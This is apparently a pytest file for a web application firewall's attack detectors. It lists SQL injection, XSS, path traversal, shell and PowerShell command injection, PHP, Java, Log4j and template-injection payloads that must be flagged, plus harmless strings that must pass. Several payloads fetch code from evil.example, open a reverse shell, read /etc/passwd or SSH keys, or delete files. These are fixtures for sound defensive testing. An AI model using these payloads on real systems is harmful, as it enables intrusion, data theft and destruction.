"""Attacks that each detector must find, and what people write that none may take for one."""

from __future__ import annotations

import pytest

from garrison.edge.inspect.detect import code, java, paths, php, shell, sql, urls, windows, xss
from garrison.edge.inspect.detect.normal import lengthy, readings, unentity, unescape

SQL = [
    b"1 or 1=1",
    b"' or 1=1--",
    b"' OR 'a'='a",
    b"admin'--",
    b"admin'#",
    b"admin'/*",
    b"1; DROP TABLE users--",
    b"-1 UNION SELECT 1,2,3",
    b"1' UNION ALL SELECT NULL,NULL--",
    b"1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
    b"1'/*!50000UNION*//*!50000SELECT*/1,2",
    b"' AND SLEEP(5)#",
    b"1) AND (SELECT 1 FROM (SELECT SLEEP(5))x)--",
    b"'; WAITFOR DELAY '0:0:5'--",
    b"1; EXEC xp_cmdshell('dir')",
    b"' || (SELECT extractvalue(1,concat(0x7e,version()))) || '",
    b"x' AND email IS NULL; --",
    b"' and substring(@@version,1,1)='5",
    b"1 AND ASCII(SUBSTRING((SELECT database()),1,1))>64",
    b"' order by 10--",
    b"') or ('1'='1",
    b'" or ""="',
    b"1 or true--",
    b"'+(select load_file('/etc/passwd'))+'",
    b"1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    b"'; INSERT INTO users VALUES ('a','b')--",
    b"1' having 1=1--",
    b"pg_sleep(10)--",
    b"1;select pg_sleep(10)",
    b"' or ''='",
    b"1 and (select count(*) from information_schema.tables)>0",
    b"0x50 or 0x31=0x31",
    b"' xor 1=1#",
    b"1' rlike sleep(5) and '1'='1",
]
HTML = [
    b"<script>alert(1)</script>",
    b"<ScRiPt src=//evil.example/x.js>",
    b"<img src=x onerror=alert(1)>",
    b"<svg/onload=alert(1)>",
    b"<svg><animate onbegin=alert(1)>",
    b'" onmouseover="alert(1)',
    b"' autofocus onfocus=alert(1) x='",
    b'<a href="javascript:alert(1)">x</a>',
    b'<a href="jav&#x09;ascript:alert(1)">x</a>',
    b'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    b"<body onpageshow=alert(1)>",
    b"<details open ontoggle=alert(1)>",
    b"';alert(document.cookie)//",
    b'"><script>prompt(1)</script>',
    b'<object data="data:text/html;base64,PHNjcmlwdD4=">',
    b'<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    b"javascript:alert(1)",
    b"{{constructor.constructor('alert(1)')()}}",
    b"<style>@import'http://evil.example/x.css';</style>",
    b"<base href=//evil.example>",
    b"<input type=image src=x onerror=prompt(1)>",
    b'[]["filter"]["constructor"]("alert(1)")()',
    b'<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    b"<form action=javascript:alert(1)><input type=submit>",
    b"window['al'+'ert'](1)",
    b"eval(String.fromCharCode(97,108))",
    b"<x onclick=alert(1)>click",
]
FILES = [
    b"../../../../etc/passwd",
    b"..\\..\\..\\windows\\win.ini",
    b"/etc/passwd",
    b"....//....//etc/passwd",
    b"/proc/self/environ",
    b"file/../../../../etc/shadow",
    b"C:\\Windows\\System32\\drivers\\etc\\hosts",
    b"../../.ssh/id_rsa",
    b"/var/log/apache2/access.log",
    b"..;/..;/manager",
    b".env",
    b"../wp-config.php",
]
COMMANDS = [
    b"; cat /etc/passwd",
    b"| id",
    b"`whoami`",
    b"$(uname -a)",
    b"&& wget http://evil.example/x.sh",
    b"; c'a't /etc/passwd",
    b";cat${IFS}/etc/passwd",
    b"|| ping -c 10 127.0.0.1",
    b"127.0.0.1; ls -la /",
    b"() { :;}; /bin/bash -c id",
    b"/bin/c?t /etc/p?sswd",
    b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    b"; w\\get http://evil.example/a",
    b"|nc -e /bin/sh 10.0.0.1 99",
    b"$(curl evil.example/`whoami`)",
    b"; rm -rf /",
    b"\n/usr/bin/id\n",
    b"a;{cat,/etc/passwd}",
    b"; python3 -c 'import os'",
    b"x|base64 -d|sh",
]
WINDOWS = [
    b"& dir c:\\",
    b"| type C:\\boot.ini",
    b"cmd.exe /c whoami",
    b"& net user hacker pass /add",
    b"%COMSPEC% /c dir",
    b"&& certutil -urlcache -f http://evil.example/a a.exe",
    b"; p^o^w^ershell -enc AAAA",
]
POWERSHELL = [
    b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example')",
    b"iex(iwr http://evil.example/x.ps1)",
    b"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
    b"Get-Content C:\\secret.txt",
]
PHP = [
    b"<?php system($_GET['c']); ?>",
    b"<?= `id` ?>",
    b"php://filter/convert.base64-encode/resource=index.php",
    b'O:8:"stdClass":1:{s:1:"a";i:2;}',
    b"phpinfo()",
    b"base64_decode('aWQ=')",
    b"data://text/plain;base64,PD9waHA=",
    b"phar://x.phar/a",
    b"${@print(md5(1))}",
    b"$_GET[0]($_GET[1])",
    b"call_user_func('system','id')",
]
JAVA = [
    b'(java.lang.Runtime).getRuntime().exec("whoami")',
    b"rO0ABXNyABFqYXZhLnV0aWwu",
    b"%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
    b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    b"T(java.lang.Runtime).getRuntime().exec('id')",
    b"#_memberAccess['allowStaticMethodAccess']=true",
    b"javax.script.ScriptEngineManager",
    b'${"".getClass().forName("java.lang.Runtime")}',
]
LOG4J = [
    b"${jndi:ldap://evil.example/a}",
    b"${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    b"${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    b"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    b"${j${k8s:k5:-ND}i:ldap://evil.example/a}",
]
CODE = [
    b"{{7*7}}",
    b"{{''.__class__.__mro__[1].__subclasses__()}}",
    b"<%= system('id') %>",
    b"#{7*7}",
    b"require('child_process').exec('id')",
    b"__import__('os').system('id')",
    b"__proto__[admin]",
    b"constructor.prototype.admin",
    b"process.mainModule.require('fs')",
    b"{% for x in ().__class__.__base__.__subclasses__() %}",
    b"\r\nSet-Cookie: a=b",
    b"*)(uid=*))(|(uid=*",
]
INCLUDES = [
    b"http://10.0.0.1/shell.txt",
    b"http://169.254.169.254/latest/meta-data/",
    b"gopher://127.0.0.1:6379/_INFO",
    b"file:///etc/passwd",
    b"http://2130706433/",
    b"http://0x7f.1/",
    b"http://[::1]:8080/",
    b"http://localhost:9200/_search",
    b"dict://127.0.0.1:11211/stats",
    b"http://evil.example/x.txt?",
    b"http://0177.0.0.1/",
    b"http://metadata.google.internal/computeMetadata/v1/",
]
HARMLESS = [
    b"it's a dog's life",
    b"Tom & Jerry",
    b"rock 'n' roll",
    b"O'Reilly & Sons",
    b"select one or more",
    b"drop me a line; thanks",
    b"union jack",
    b"order by phone",
    b"and/or",
    b"5 > 3 and 2 < 4",
    b"C++ & C#",
    b"a <b>bold</b> claim",
    b'<p>Hello, <a href="https://example.com/a?b=c">world</a></p>',
    b"only=5",
    b"see ../docs",
    b"/home/page",
    b"find a job",
    b"time to go; who is next?",
    b"cat food",
    b"what does `ls` do",
    b"price: $5",
    b"f(x) = x^2",
    b"100% cotton",
    b"user@example.com",
    b"https://example.com/page?x=1&y=2",
    b"2024-06-10T12:00:00+02:00",
    b"{curly}",
    b"[square]",
    b"key: value",
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    b"it's 5 o'clock",
    b"1 or 2 bedrooms",
    b"to be or not to be",
    b"net income",
    b"for sale in Berlin",
    b"if not now, when?",
    b"process of elimination",
    b"the runtime of the film",
    b"don't; won't; can't",
    b"students' union",
    b"5' 10\"",
    b"print(book)",
    b"java coffee",
    "¿Cómo estás? ¡Hoy!".encode(),
    "你好世界".encode(),
]


@pytest.mark.parametrize("value", SQL)
def test_sql_injection_is_found(value: bytes) -> None:
    assert sql.detect(value) is not None


@pytest.mark.parametrize("value", HTML)
def test_scripts_are_found(value: bytes) -> None:
    assert any(xss.detect(each) for each in readings(value))


@pytest.mark.parametrize("value", FILES)
def test_local_files_are_found(value: bytes) -> None:
    assert paths.detect(value) is not None


@pytest.mark.parametrize("value", COMMANDS)
def test_commands_of_unix_are_found(value: bytes) -> None:
    assert shell.detect(value) is not None


@pytest.mark.parametrize("value", WINDOWS)
def test_commands_of_windows_are_found(value: bytes) -> None:
    assert windows.detect(value) or windows.powershell(value)


@pytest.mark.parametrize("value", POWERSHELL)
def test_powershell_is_found(value: bytes) -> None:
    assert windows.powershell(value) is not None


@pytest.mark.parametrize("value", PHP)
def test_php_is_found(value: bytes) -> None:
    assert php.detect(value) is not None


@pytest.mark.parametrize("value", JAVA)
def test_java_is_found(value: bytes) -> None:
    assert java.detect(value) is not None


@pytest.mark.parametrize("value", LOG4J)
def test_lookups_of_log4j_are_found_however_nested(value: bytes) -> None:
    assert java.log4j(value) is not None


@pytest.mark.parametrize("value", CODE)
def test_code_and_templates_are_found(value: bytes) -> None:
    assert code.detect(value) is not None


@pytest.mark.parametrize("value", INCLUDES)
def test_urls_of_inner_networks_and_inclusions_are_found(value: bytes) -> None:
    assert urls.rfi(value) or urls.ssrf(value)


@pytest.mark.parametrize("value", HARMLESS)
def test_what_people_write_is_no_attack(value: bytes) -> None:
    for detect in (
        sql.detect,
        xss.detect,
        paths.detect,
        shell.detect,
        windows.detect,
        windows.powershell,
        php.detect,
        java.detect,
        java.log4j,
        code.detect,
        urls.rfi,
        urls.ssrf,
    ):
        assert detect(value) is None, detect


@pytest.mark.parametrize(
    ("host", "address"),
    [
        (b"127.1", 0x7F000001),
        (b"0x7f000001", 0x7F000001),
        (b"017700000001", 0x7F000001),
        (b"2130706433", 0x7F000001),
        (b"1.2.3.4", 0x01020304),
        (b"example.com", None),
        (b"", None),
        (b"1.2.3.4.5", None),
    ],
)
def test_hosts_are_read_as_inet_aton_reads_them(host: bytes, address: int | None) -> None:
    assert urls.number(host) == address


@pytest.mark.parametrize(
    ("value", "plain"),
    [
        (b"%3Cscript%3E", b"<script>"),
        (b"%253Cscript%253E", b"<script>"),
        (b"%u003Cscript%u003E", b"<script>"),
        (b"\xc0\xbcscript>", b"<script>"),
        (b"&lt;script&gt;", b"<script>"),
        (b"&#60script&#x3e;", b"<script>"),
        (b"\\x3cscript\\x3e", b"<script>"),
        (b"\\u003cscript\\u{3e}", b"<script>"),
        ("\uff1cscript\uff1e".encode(), b"<script>"),
        (b"+ADw-script+AD4-", b"<script>"),
        (b"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", b"<script>alert(1)</script>"),
        (b"..%c0%af..%c0%afetc", b"../../etc"),
        (b"a\0b", b"ab"),
    ],
)
def test_disguises_are_undone(value: bytes, plain: bytes) -> None:
    assert plain in readings(value)


def test_entities_and_escapes_are_undone_as_browsers_do() -> None:
    assert unentity(b"&#0000106avascript&colon;") == b"javascript:"
    assert unescape(b"\\141\\x6c\\u0065rt") == b"alert"


def test_padding_makes_no_text_of_a_value() -> None:
    assert not lengthy(b"; id" + b" " * 500 + b"\n" * 500)
    assert lengthy(b"one two three four five six seven " * 10)
